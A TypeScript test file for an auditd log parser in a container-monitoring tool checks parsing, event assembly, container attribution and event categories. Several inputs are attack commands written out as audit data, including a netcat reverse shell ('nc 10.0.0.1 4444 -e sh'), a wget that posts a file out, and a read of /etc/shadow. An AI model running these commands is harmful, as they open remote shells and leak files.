import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { fixturePath } from '../fixture-path.js';
import { readAll } from '../testutil.js';
import { ContainerAttributor, containerIdFromCgroup, runtimeTarget } from '../attribution.js';
import { decodeSockaddr, parseAuditLine } from './parse.js';
import { AuditAssembler } from './assemble.js';
import { toEvent } from './normalize.js';
import { createAuditParser } from './reader.js';
import { readEventFile } from '../files.js';

const log = fixturePath(import.meta.url, './fixtures/containers.log');
const inspect = fixturePath(import.meta.url, '../docker/fixtures/inspect.json');

test('parses RAW and ENRICHED records and decodes hex fields', () => {
  const p = parseAuditLine('type=PROCTITLE msg=audit(1795376356.310:53): proctitle=7461696C002D33');
  assert.ok('record' in p);
  assert.equal(p.record.fields.proctitle, 'tail -3');
  assert.equal(p.record.serial, 53);
  assert.equal(p.record.timeMs, 1795376356310);
  const sc = parseAuditLine(
    'type=SYSCALL msg=audit(1.5:7): arch=c000003e syscall=59 success=yes exe="/bin/x y" key=(null)\x1dARCH=x86_64 SYSCALL=execve UID="root"',
  );
  assert.ok('record' in sc);
  assert.equal(sc.record.fields.exe, '/bin/x y');
  assert.equal(sc.record.fields.SYSCALL, 'execve');
  assert.equal(sc.record.fields.UID, 'root');
  assert.equal(sc.record.timeMs, 1500);
  const ex = parseAuditLine('node=h1 type=EXECVE msg=audit(1.000:8): argc=2 a0="sh" a1=6563686F2022686922');
  assert.ok('record' in ex);
  assert.equal(ex.record.node, 'h1');
  assert.equal(ex.record.fields.a1, 'echo "hi"');
  const user = parseAuditLine('type=USER_CMD msg=audit(1.000:9): pid=5 uid=0 msg=\'cwd="/root" cmd=6C73202D6C exe="/usr/bin/sudo" res=success\'');
  assert.ok('record' in user);
  assert.equal(user.record.fields.cmd, 'ls -l');
  assert.equal(user.record.fields.exe, '/usr/bin/sudo');
  assert.ok('error' in parseAuditLine('garbage'));
});

test('decodes SOCKADDR for inet, inet6 and unix', () => {
  assert.deepEqual(decodeSockaddr('02000050C0A80001' + '0'.repeat(16)), { family: 'inet', port: 80, ip: '192.168.0.1' });
  const v6 = decodeSockaddr('0A0001BB00000000' + '20010DB8000000000000000000000007' + '00000000');
  assert.deepEqual(v6, { family: 'inet6', port: 443, ip: '2001:db8::7' });
  assert.deepEqual(decodeSockaddr('01002F7661722F72756E2F646F636B65722E736F636B00'), { family: 'unix', path: '/var/run/docker.sock' });
  assert.deepEqual(decodeSockaddr('0100006162'), { family: 'unix', path: '@ab' });
});

test('assembles by serial: EOE, newer serials, flush at the end', () => {
  const asm = new AuditAssembler({ lookbehind: 2 });
  const rec = (t: string, s: number) => (parseAuditLine(`type=${t} msg=audit(1.000:${s}): pid=1`) as { record: never }).record;
  assert.equal(asm.push(rec('SYSCALL', 1)).length, 0);
  assert.equal(asm.push(rec('PATH', 1)).length, 0);
  const done = asm.push(rec('EOE', 1));
  assert.equal(done.length, 1);
  assert.deepEqual(
    done[0]!.records.map((r) => r.type),
    ['SYSCALL', 'PATH'],
  );
  asm.push(rec('SYSCALL', 2));
  asm.push(rec('SYSCALL', 3));
  const later = asm.push(rec('SYSCALL', 4));
  assert.deepEqual(
    later.map((g) => g.serial),
    [2],
  );
  assert.deepEqual(
    asm.flush().map((g) => g.serial),
    [3, 4],
  );
  // a reboot restarts serials: pending events complete, the new ones assemble as before
  const b = new AuditAssembler();
  b.push(rec('SYSCALL', 50000));
  assert.deepEqual(
    b.push(rec('SYSCALL', 1)).map((g) => g.serial),
    [50000],
  );
  for (let s = 2; s < 40; s++) b.push(rec('SYSCALL', s));
  assert.ok(b.pendingCount <= 33);
});

test('recorded container activity: execve and connect normalized with categories', async () => {
  const { events, diagnostics } = await readAll(log);
  assert.equal(diagnostics.length, 0);
  assert.ok(events.length > 100);
  const execs = events.filter((e) => e.event.action === 'execve');
  assert.ok(
    execs.every(
      (e) => e.stowaway.logsource.category === 'process_creation' && e.stowaway.logsource.product === 'linux' && e.stowaway.logsource.service === 'auditd',
    ),
  );
  const cat = execs.find((e) => e.process?.args?.[0] === 'cat')!;
  assert.deepEqual(cat.process!.args, ['cat', '/host-etc/hostname']);
  assert.equal(cat.process!.executable, '/bin/busybox');
  assert.equal(cat.process!.title, 'cat /host-etc/hostname');
  assert.ok(Array.isArray((cat.auditd as { records: unknown[] }).records));
  assert.equal((cat.auditd as { key: string }).key, 'stowaway-fx');
  const nc = events.find((e) => e.event.action === 'connect' && e.process?.name === 'nc')!;
  assert.equal(nc.stowaway.logsource.category, 'network_connection');
  assert.equal(nc.destination!.ip, '127.0.0.1');
  assert.equal(nc.destination!.port, 9);
  assert.equal(nc.event.outcome, 'failure');
});

test('recorded container activity is attributed to the right containers', async () => {
  const { events } = await readAll(log, { inspect });
  const names = (pred: (a: string[]) => boolean) => events.filter((e) => e.process?.args && pred(e.process.args)).map((e) => e.container?.name);
  assert.deepEqual(
    names((a) => a[0] === 'cat'),
    ['stowaway-fx-bind'],
  );
  assert.deepEqual(
    names((a) => a[0] === 'nc'),
    ['stowaway-fx-hostns'],
  );
  const connect = events.find((e) => e.event.action === 'connect' && e.process?.name === 'nc')!;
  assert.equal(connect.container!.name, 'stowaway-fx-hostns');
  assert.equal(connect.container!.pid_mode, 'host', 'the container configuration travels with its processes');
  assert.equal(connect.container!.network_mode, 'host');
  const runc = events.filter((e) => e.process?.executable === '/usr/sbin/runc');
  assert.ok(runc.length > 0 && runc.every((e) => !e.container), 'the runtime itself stays a host process');
  // without the inspect dump, the runtime's command lines still attribute (by id)
  const bare = await readAll(log);
  const bareCat = bare.events.find((e) => e.process?.args?.[0] === 'cat')!;
  assert.equal(bareCat.container!.id, events.find((e) => e.process?.args?.[0] === 'cat')!.container!.id);
  assert.equal(bareCat.container!.metadata, 'partial');
});

test('an event split across a rotation: assembled whole when read as one stream, flagged when not', () => {
  const lines = readFileSync(log, 'utf8').split('\n').filter(Boolean);
  const firstExecve = lines.findIndex((l) => l.startsWith('type=EXECVE'));
  const head = lines.slice(0, firstExecve);
  const tail = lines.slice(firstExecve);
  // one parser across both files, as the live tail does across a rotation
  const p = createAuditParser('audit.log.1');
  const out = [...head.flatMap((l, i) => p.line(l, i + 1))];
  p.setFile('audit.log');
  out.push(...tail.flatMap((l, i) => p.line(l, i + 1)), ...p.end());
  const whole = out.filter((r) => 'event' in r);
  assert.ok(out.every((r) => 'event' in r));
  // separately: the second file starts with an event that lost its head
  const p2 = createAuditParser('audit.log');
  const part = [...tail.flatMap((l, i) => p2.line(l, i + 1)), ...p2.end()];
  const partial = part.filter((r) => 'diagnostic' in r);
  assert.equal(partial.length, 1);
  assert.ok('diagnostic' in partial[0]! && partial[0].diagnostic.code === 'audit-partial-event' && partial[0].diagnostic.file === 'audit.log');
  assert.equal(part.filter((r) => 'event' in r).length, whole.length, 'no event lost, the partial one is kept');
});

test('truncated and garbage lines are counted, good records still read', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'stowaway-audit-'));
  try {
    const lines = readFileSync(log, 'utf8').split('\n').filter(Boolean).slice(0, 40);
    lines.splice(10, 0, 'type=SYSCALL msg=audit(17953');
    lines.splice(20, 0, '\u0000\u0000garbage');
    const f = join(dir, 'audit.log');
    writeFileSync(f, lines.join('\n') + '\n');
    const { events, diagnostics } = await readAll(f, { format: 'auditd' });
    assert.equal(diagnostics.filter((d) => d.code === 'bad-audit-record').length, 2);
    assert.deepEqual(
      diagnostics
        .map((d) => d.line)
        .filter((l) => l !== undefined)
        .slice(0, 2),
      [11, 21],
    );
    assert.ok(events.length > 5);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('file syscalls: write opens, rename, unlink resolve paths with cwd', () => {
  const g = (recs: string[]) => {
    const records = recs.map((l) => (parseAuditLine(l) as { record: never }).record);
    return toEvent({ serial: 1, timeMs: 1000, records, complete: true });
  };
  const open = g([
    'type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd a2=241 a3=1b6 items=2 ppid=1 pid=2 uid=0 comm="sh" exe="/bin/sh" key="etc"',
    'type=CWD msg=audit(1.000:1): cwd="/etc/docker"',
    'type=PATH msg=audit(1.000:1): item=0 name="/etc/docker" nametype=PARENT',
    'type=PATH msg=audit(1.000:1): item=1 name="daemon.json" nametype=CREATE mode=0100644',
  ]);
  assert.equal(open.stowaway.logsource.category, 'file_event');
  assert.equal(open.file!.path, '/etc/docker/daemon.json');
  assert.deepEqual(open.event.type, ['creation']);
  const ren = g([
    'type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=82 success=yes exit=0 items=4 ppid=1 pid=2 uid=0 comm="mv" exe="/bin/mv"',
    'type=PATH msg=audit(1.000:1): item=2 name="/tmp/a" nametype=DELETE',
    'type=PATH msg=audit(1.000:1): item=3 name="/tmp/b" nametype=CREATE',
  ]);
  assert.equal(ren.file!.path, '/tmp/a');
  assert.equal(ren.file!.target_path, '/tmp/b');
  const ro = g([
    'type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=257 success=yes a2=0 pid=2 exe="/bin/cat"',
    'type=PATH msg=audit(1.000:1): item=0 name="/etc/shadow" nametype=NORMAL',
  ]);
  assert.equal(ro.stowaway.logsource.category, undefined);
  const mod = g(['type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=313 success=yes pid=2 exe="/sbin/insmod"']);
  assert.deepEqual(mod.event.category, ['driver']);
  const ns = g(['type=SYSCALL msg=audit(1.000:1): arch=c00000b7 syscall=268 success=yes pid=2 exe="/usr/bin/nsenter"']);
  assert.equal(ns.event.action, 'setns');
});

test('cgroup paths and runtime command lines name containers', () => {
  const id = 'a'.repeat(64);
  assert.equal(containerIdFromCgroup(`4:memory:/docker/${id}\n`), id);
  assert.equal(containerIdFromCgroup(`0::/system.slice/docker-${id}.scope\n`), id);
  assert.equal(containerIdFromCgroup(`0::/kubepods.slice/kubepods-pod1.slice/cri-containerd-${id}.scope`), id);
  assert.equal(containerIdFromCgroup('0::/user.slice/session-1.scope\n'), null);
  assert.equal(runtimeTarget(['containerd-shim-runc-v2', '-namespace', 'moby', '-id', id, 'start']), id);
  assert.equal(runtimeTarget(['runc', '--root', '/x', 'start', id]), id);
  const a = new ContainerAttributor();
  a.addContainer({ id, name: 'c1', pid: 100 });
  const ev = toEvent({
    serial: 1,
    timeMs: 1,
    complete: true,
    records: [
      (parseAuditLine('type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=59 success=yes ppid=100 pid=101 exe="/bin/sh"') as { record: never }).record,
    ],
  });
  assert.equal(a.attribute(ev), 'container');
  assert.equal(ev.container!.name, 'c1');
  const orphan = toEvent({
    serial: 2,
    timeMs: 1,
    complete: true,
    records: [(parseAuditLine('type=SYSCALL msg=audit(1.000:2): arch=c000003e syscall=59 success=yes ppid=5 pid=6 exe="/bin/sh"') as { record: never }).record],
  });
  assert.equal(a.attribute(orphan), 'unknown');
  assert.deepEqual(a.counts, { container: 1, host: 0, unknown: 1 });
});

const rec = (line: string) => {
  const p = parseAuditLine(line);
  assert.ok('record' in p, `parses: ${line}`);
  return p.record;
};

test('field values: quoted with spaces and equals signs, braces, stray words, a line cut inside a quote', () => {
  const f = rec('type=AVC msg=audit(1.000:1): avc:  denied  { read write } for  pid=7 comm="a b=c" path="/x y" name= tclass=file').fields;
  assert.equal(f.comm, 'a b=c');
  assert.equal(f.path, '/x y');
  assert.equal(f.pid, '7');
  assert.equal(f.name, '');
  assert.equal(f.tclass, 'file');
  assert.ok(!('for' in f) && !('denied' in f), 'words without = are not fields');
  const cut = rec('type=SYSCALL msg=audit(1.000:2): pid=3 exe="/usr/bi').fields;
  assert.deepEqual(cut, { type: 'SYSCALL', pid: '3', exe: '/usr/bi' });
  const brace = rec('type=CONFIG_CHANGE msg=audit(1.000:3): op=add data={ a = b } res=1').fields;
  assert.equal(brace.data, '{ a = b }');
  assert.equal(brace.res, '1');
});

test('hex values: decoded only for hex-carrying fields, unquoted and whole bytes', () => {
  const f = rec('type=SYSCALL msg=audit(1.000:1): comm=6120622063 exe="6162" key=6B3101 arch=c000003e tty=(none) name=abc cwd=2F6').fields;
  assert.equal(f.comm, 'a b c');
  assert.equal(f.exe, '6162', 'a quoted value is text even when it looks like hex');
  assert.equal(f.key, 'k1\x01', 'the key separator stays');
  assert.equal(f.arch, 'c000003e', 'not a hex-carrying field');
  assert.equal(f.name, 'abc', 'not hex');
  assert.equal(f.cwd, '2F6', 'half a byte is not hex');
  // argv in proctitle: NULs between arguments become spaces, trailing ones go; UTF-8 is decoded
  assert.equal(rec('type=PROCTITLE msg=audit(1.000:1): proctitle=7368002D6300E282AC0000').fields.proctitle, 'sh -c €');
  const ex = rec('type=EXECVE msg=audit(1.000:1): argc=2 a0=6C73 a1_len=4 a1[0]=6162 a1[1]="cd" b0=6162').fields;
  assert.equal(ex.a0, 'ls');
  assert.equal(ex['a1[0]'], 'ab');
  assert.equal(ex['a1[1]'], 'cd');
  assert.equal(ex.b0, '6162', 'only aN arguments are hex in EXECVE');
  assert.equal(rec('type=PATH msg=audit(1.000:1): a0=6C73').fields.a0, '6C73', 'aN is hex only in EXECVE');
});

test('duplicate and colliding names: a later raw value wins, interpreted values never replace raw ones', () => {
  const f = rec('type=SYSCALL msg=audit(1.000:1): pid=1 pid=2 uid=0 type=X exe="/a"\x1dUID="root" uid=root2 UID="r2" ARCH=x86_64').fields;
  assert.equal(f.type, 'SYSCALL', 'the record type leads and stays');
  assert.equal(Object.keys(f)[0], 'type');
  assert.equal(f.pid, '2');
  assert.equal(f.uid, '0', 'the raw value wins over the interpreted one');
  assert.equal(f.UID, 'r2', 'the last interpreted value of a name wins');
  assert.deepEqual(Object.keys(f), ['type', 'pid', 'uid', 'exe', 'UID', 'ARCH']);
  // user-space records nest their fields in msg='...'; the outer ones come first
  const u = rec('type=USER_CMD msg=audit(1.000:2): pid=5 uid=0 msg=\'cwd="/root" pid=9 cmd=6C73 cmd=7878 res=success\'').fields;
  assert.equal(u.pid, '5');
  assert.equal(u.cmd, 'xx');
  assert.equal(u.cwd, '/root');
  assert.equal(u.msg, 'cwd="/root" pid=9 cmd=6C73 cmd=7878 res=success');
});

test('records of one type with other field names than the last one parsed keep their own names', () => {
  // the parser remembers the names records of a type had; a record that differs must not inherit them
  const a = rec('type=PATH msg=audit(1.000:1): item=0 name="/a" inode=1 nametype=NORMAL').fields;
  const b = rec('type=PATH msg=audit(1.000:1): item=1 nam="/b" inodes=2 nametype=CREATE extra=x').fields;
  const c = rec('type=PATH msg=audit(1.000:1): item=2 name="/c"').fields;
  const d = rec('type=PATH msg=audit(1.000:1): item=3 name="/d" inode=4 nametype=NORMAL').fields;
  assert.deepEqual(a, { type: 'PATH', item: '0', name: '/a', inode: '1', nametype: 'NORMAL' });
  assert.deepEqual(b, { type: 'PATH', item: '1', nam: '/b', inodes: '2', nametype: 'CREATE', extra: 'x' });
  assert.deepEqual(c, { type: 'PATH', item: '2', name: '/c' });
  assert.deepEqual(d, { type: 'PATH', item: '3', name: '/d', inode: '4', nametype: 'NORMAL' });
  const e = rec('type=PATH msg=audit(1.000:1): item x=1 name="/e"').fields;
  assert.deepEqual(e, { type: 'PATH', x: '1', name: '/e' }, 'a stray word shifts the names; none is taken from memory');
});

test('an event time no date can hold is a diagnostic, not a crash', async () => {
  assert.ok('error' in parseAuditLine('type=SYSCALL msg=audit(99999999999999999999.123:5): pid=1'));
  const dir = mkdtempSync(join(tmpdir(), 'stowaway-audit-'));
  try {
    const f = join(dir, 'audit.log');
    writeFileSync(
      f,
      'type=SYSCALL msg=audit(99999999999999999999.123:5): arch=c000003e syscall=59 pid=1\ntype=SYSCALL msg=audit(1.000:6): arch=c000003e syscall=59 pid=1\n',
    );
    const { events, diagnostics } = await readAll(f, { format: 'auditd' });
    assert.deepEqual(
      diagnostics.map((d) => [d.code, d.line]),
      [['bad-audit-record', 1]],
    );
    assert.equal(events.length, 1);
    assert.equal(events[0]!['@timestamp'], '1970-01-01T00:00:01.000Z');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('event times: milliseconds from the record, formatted as toISOString does', () => {
  for (const [stamp, iso] of [
    ['1795376392.634', '2026-11-22T19:39:52.634Z'],
    ['1795376392.6', '2026-11-22T19:39:52.600Z'],
    ['1795376392.007123', '2026-11-22T19:39:52.007Z'],
    ['1795376393.000', '2026-11-22T19:39:53.000Z'],
    ['253402300800.000', '+010000-01-01T00:00:00.000Z'],
  ] as const) {
    const ev = toEvent({
      serial: 1,
      timeMs: rec(`type=SYSCALL msg=audit(${stamp}:1): pid=1`).timeMs,
      complete: true,
      records: [rec(`type=SYSCALL msg=audit(${stamp}:1): pid=1`)],
    });
    assert.equal(ev['@timestamp'], iso, stamp);
  }
});

test('interleaved events assemble by serial; a late record is counted', () => {
  const asm = new AuditAssembler({ lookbehind: 4 });
  const lines = [
    'type=SYSCALL msg=audit(1.000:10): syscall=59 pid=1',
    'type=SYSCALL msg=audit(1.000:11): syscall=59 pid=2',
    'type=EXECVE msg=audit(1.000:10): argc=1 a0="a"',
    'type=EXECVE msg=audit(1.000:11): argc=1 a0="b"',
    'node=n2 type=SYSCALL msg=audit(1.000:10): syscall=59 pid=3',
    'type=PROCTITLE msg=audit(1.000:10): proctitle=61',
    'type=EOE msg=audit(1.000:10): ',
    'type=SYSCALL msg=audit(1.000:16): syscall=59 pid=4',
    'type=PATH msg=audit(1.000:10): item=0 name="/late"',
  ];
  const done = lines.flatMap((l) => asm.push(rec(l)));
  assert.deepEqual(
    done.map((g) => [g.serial, g.node, g.records.map((r) => r.type).join(',')]),
    [
      [10, undefined, 'SYSCALL,EXECVE,PROCTITLE'],
      [11, undefined, 'SYSCALL,EXECVE'],
    ],
  );
  assert.equal(asm.lateRecords, 1);
  const rest = asm.flush();
  assert.deepEqual(
    rest.map((g) => [g.serial, g.node ?? '', g.complete]),
    [
      [10, 'n2', true],
      [10, '', false],
      [16, '', true],
    ],
  );
});

test('the recorded log parses and assembles to the same records as when this parser was rewritten for speed', () => {
  // digest of every assembled record of the fixture (types, serials, times, all fields in order),
  // taken with the previous parser; any change in what parsing yields shows here
  const lines = readFileSync(log, 'utf8').split('\n').filter(Boolean);
  const asm = new AuditAssembler();
  const groups = lines.flatMap((l, i) => asm.push(rec(l), `containers.log:${i + 1}`, 0));
  groups.push(...asm.flush());
  const text = JSON.stringify(
    groups.map((g) => ({ serial: g.serial, node: g.node, timeMs: g.timeMs, complete: g.complete, origin: g.origin, records: g.records })),
  );
  assert.equal(groups.length, 133);
  assert.equal(createHash('sha256').update(text).digest('hex'), '9d8a9512d42b65188a27e91407a2ab4b35d9886be66a5dc9a9d093655a602f8a');
});

test('the file reader gives what the parser gives line by line (chunked reading keeps lines and numbers)', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'stowaway-audit-'));
  try {
    // CRLF endings, blank lines and a last line without a newline, long enough to span read chunks
    const lines = readFileSync(log, 'utf8').split('\n').filter(Boolean);
    const text = [...lines, '', ...lines.map((l) => l.replace(/:(\d+)\):/, (_, s: string) => `:${Number(s) + 5000}):`))].join('\r\n');
    const f = join(dir, 'audit.log');
    writeFileSync(f, text);
    // readEventFile attributes with a fresh attributor when given none; so does this parser
    const p = createAuditParser(f, new ContainerAttributor());
    const expected = [...text.split('\r\n').flatMap((l, i) => (l.trim() ? p.line(l, i + 1) : [])), ...p.end()];
    const got: unknown[] = [];
    for await (const r of readEventFile(f, { format: 'auditd' })) got.push(r);
    assert.equal(got.length, 266);
    assert.deepEqual(got, expected);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('multi-call binaries are named by argv[0]: applet links, /proc/self/exe re-execution, `busybox APPLET`', () => {
  const g = (comm: string, exe: string, args: string[]) => {
    const argv = args.map((a, i) => `a${i}="${a}"`).join(' ');
    const records = [
      `type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 uid=0 comm="${comm}" exe="${exe}" key="stowaway-exec"`,
      `type=EXECVE msg=audit(1.000:1): argc=${args.length} ${argv}`,
    ].map((l) => (parseAuditLine(l) as { record: never }).record);
    return toEvent({ serial: 1, timeMs: 1000, records, complete: true }).process!;
  };
  // busybox sh runs applets by re-executing itself: the kernel's name is `exe`
  const viaSelf = g('exe', '/bin/busybox', ['nc', '10.0.0.1', '4444', '-e', 'sh']);
  assert.equal(viaSelf.name, 'nc');
  assert.equal(viaSelf.executable, '/bin/busybox', 'the executable stays what the kernel ran');
  assert.equal(viaSelf.command_line, 'nc 10.0.0.1 4444 -e sh');
  assert.equal(g('wget', '/bin/busybox', ['/bin/wget', '--post-file', '/tmp/x', 'http://h/']).name, 'wget');
  assert.equal(g('busybox', '/usr/bin/busybox', ['busybox', 'nc', 'h', '1']).name, 'nc');
  assert.equal(g('exe', '/usr/bin/toybox', ['/usr/bin/toybox', 'wget']).name, 'wget');
  assert.equal(g('sh', '/bin/busybox', ['-sh']).name, 'sh', 'a login shell is still sh');
  assert.equal(g('busybox', '/bin/busybox', ['busybox', '--list']).name, 'busybox');
  // other programs keep the kernel's name, whatever argv[0] claims (exec -a)
  assert.equal(g('runc', '/usr/bin/runc', ['runc:[2:INIT]']).name, 'runc');
  assert.equal(g('python3', '/usr/bin/python3.11', ['nc']).name, 'python3');
});

test('an EXECVE record claiming millions of arguments is read by the fields it has', () => {
  const p = createAuditParser('forged.log');
  const out = [
    ...p.line('type=SYSCALL msg=audit(1795376393.370:108): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 uid=0 comm="sh" exe="/bin/sh"', 1),
    ...p.line('type=EXECVE msg=audit(1795376393.370:108): argc=13131313 a0="sh" a1="-c" a2="id"', 2),
    ...p.line('type=PROCTITLE msg=audit(1795376393.370:108): proctitle=7368', 3),
    ...p.end(),
  ];
  const ev = out.find((r) => 'event' in r) as { event: { process?: { args?: string[] } } };
  assert.deepEqual(ev.event.process?.args, ['sh', '-c', 'id']);
});
